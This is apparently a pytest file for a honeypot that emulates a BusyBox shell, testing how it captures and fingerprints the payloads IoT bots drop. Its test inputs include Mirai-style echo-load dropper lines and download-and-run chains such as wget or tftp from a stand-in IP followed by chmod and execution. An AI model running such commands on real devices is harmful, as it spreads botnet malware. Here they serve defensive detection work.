"""Payloads: the files a bot runs, makes executable or downloads to are kept
once and complete, with what their ELF header says."""

from __future__ import annotations

import hashlib

import pytest
from twisted.internet.task import Clock

from bbs.shell import BusyBoxShell
from bbs.shell.fs import FILE, FileEvent, Node
from bbs.shell.payloads import Elf, Payload, PayloadWatch, elf_info
from tests.shell.dropper import echo_load, elf


def shell(arch: str = "armv7l") -> BusyBoxShell:
    clock = Clock()
    clock.advance(1_795_777_200)
    return BusyBoxShell(arch=arch, clock=clock)


def run_all(sh: BusyBoxShell, lines: list[str]) -> list[Payload]:
    found: list[Payload] = []
    for line in lines:
        found.extend(sh.run(line).payloads)
    return found


@pytest.mark.parametrize("data, expected", [
    (elf(40), Elf(32, "little", "ARM")),
    (elf(8, little=False), Elf(32, "big", "MIPS")),
    (elf(8), Elf(32, "little", "MIPS")),
    (elf(62, bits=64), Elf(64, "little", "x86-64")),
    (elf(3), Elf(32, "little", "Intel 80386")),
    (elf(20, little=False), Elf(32, "big", "PowerPC")),
    (elf(42), Elf(32, "little", "Renesas SH")),
    (elf(183, bits=64), Elf(64, "little", "ARM aarch64")),
    (elf(4, little=False), Elf(32, "big", "Motorola m68k")),
    (elf(0x1234), Elf(32, "little", "unknown (4660)")),
])
def test_elf_header_is_read(data: bytes, expected: Elf) -> None:
    assert elf_info(data) == expected


@pytest.mark.parametrize("data", [
    b"", b"\x7fELF", elf(40)[:19], b"#!/bin/sh\necho hi\n" * 4,
    b"\x7fELF\x03\x01" + bytes(20), b"\x7fELF\x01\x00" + bytes(20),
])
def test_what_is_not_elf(data: bytes) -> None:
    assert elf_info(data) is None


def test_mirai_echo_load_is_kept_once_and_complete() -> None:
    sh = shell()
    dropper = elf(40, size=2048)
    lines = ["cd /tmp || cd /var/run || cd /mnt"] + echo_load(dropper)
    found = run_all(sh, lines + ["./upnp", "sh -c ./upnp"])
    found += sh.finish()
    assert len(found) == 1
    (p,) = found
    assert p.data == dropper and p.size == 2048
    assert p.sha256 == hashlib.sha256(dropper).hexdigest()
    assert (p.path, p.trigger, p.url) == ("/tmp/upnp", "exec", "")
    assert p.elf == Elf(32, "little", "ARM")


def test_a_file_made_executable_before_it_is_written_is_kept_whole_at_the_end() -> None:
    sh = shell()
    dropper = elf(8, little=False, size=1000)
    lines = echo_load(dropper, "dvrHelper", chunk=100)
    lines = ["cd /tmp", ">dvrHelper", "chmod +x dvrHelper"] + lines[:-1]
    assert run_all(sh, lines) == []
    (p,) = sh.finish()
    assert (p.data, p.trigger, p.path) == (dropper, "end", "/tmp/dvrHelper")
    assert p.elf == Elf(32, "big", "MIPS")
    assert sh.finish() == ()


def test_a_script_run_by_sh_is_kept() -> None:
    sh = shell()
    found = run_all(sh, ["cd /tmp", "echo 'echo pwned' > x.sh", "sh x.sh"])
    (p,) = found
    assert (p.data, p.path, p.trigger, p.elf) == (b"echo pwned\n", "/tmp/x.sh", "exec", None)


def test_a_marked_file_removed_is_kept_before_it_goes() -> None:
    sh = shell()
    found = run_all(sh, ["cd /tmp", "echo -ne 'abc' > f", "chmod 700 f", "rm -f f"])
    assert [(p.data, p.trigger) for p in found] == [(b"abc", "remove")]
    assert sh.finish() == ()


def test_a_download_target_carries_its_url() -> None:
    sh = shell()
    found = run_all(sh, ["cd /tmp", "echo -ne '\\x7fELF' > mips",
                         "tftp -g -r mips 203.0.113.9", "chmod 777 mips", "./mips"])
    (p,) = found
    assert (p.url, p.path, p.trigger) == ("tftp://203.0.113.9/mips", "/tmp/mips", "exec")


def test_a_download_named_but_never_written_leaves_nothing() -> None:
    sh = shell()
    assert run_all(sh, ["cd /tmp", "wget http://203.0.113.9/x -O x; chmod 777 x; ./x"]) == []
    assert sh.finish() == ()


def test_files_never_made_executable_or_run_are_not_payloads() -> None:
    sh = shell()
    assert run_all(sh, ["cd /tmp", "echo hello > notes", "cat notes", "rm notes"]) == []
    assert sh.finish() == ()


def test_the_devices_own_programs_are_not_payloads() -> None:
    sh = shell()
    lines = ["cd /tmp", "cp /bin/busybox bb", "chmod 777 bb", "./bb echo hi",
             "/bin/busybox echo hi", "cat /bin/echo > e", "chmod +x e", "./e"]
    assert run_all(sh, lines) == []
    assert sh.finish() == ()


def test_bounded_count_and_size() -> None:
    watch = PayloadWatch(max_size=10, max_count=2)
    for n in range(4):
        watch(FileEvent("exec", f"/tmp/f{n}", Node(FILE, 0o755, data=b"x%d" % n)))
    watch(FileEvent("exec", "/tmp/big", Node(FILE, 0o755, data=b"y" * 11)))
    assert [p.path for p in watch.take()] == ["/tmp/f0", "/tmp/f1"]
    assert watch.skipped == 3


def test_filesystem_tells_its_watcher() -> None:
    told: list[tuple[str, str, bytes | None, str]] = []
    sh = shell()
    sh.fs.watcher = lambda e: told.append((e.trigger, e.path, e.node and e.node.data, e.url))
    sh.run("cd /tmp; echo -n a > a; chmod 644 a; chmod u+x a; ./a; wget http://h.example/b")
    sh.run("rm a")
    assert told == [("chmod", "/tmp/a", b"a", ""), ("exec", "/tmp/a", b"a", ""),
                    ("download", "/tmp/b", None, "http://h.example/b"),
                    ("remove", "/tmp/a", b"a", "")]
